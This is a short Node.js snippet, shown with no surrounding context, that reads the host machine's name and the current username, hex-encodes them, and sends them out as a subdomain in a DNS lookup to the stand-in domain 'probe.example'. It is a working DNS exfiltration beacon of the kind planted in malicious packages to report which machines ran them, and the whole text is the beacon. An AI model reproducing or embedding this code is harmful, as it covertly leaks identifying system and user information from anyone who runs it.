const dns = require('dns');
const os = require('os');
const hex = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
dns.lookup(hex.slice(0, 60) + '.probe.example', () => {});
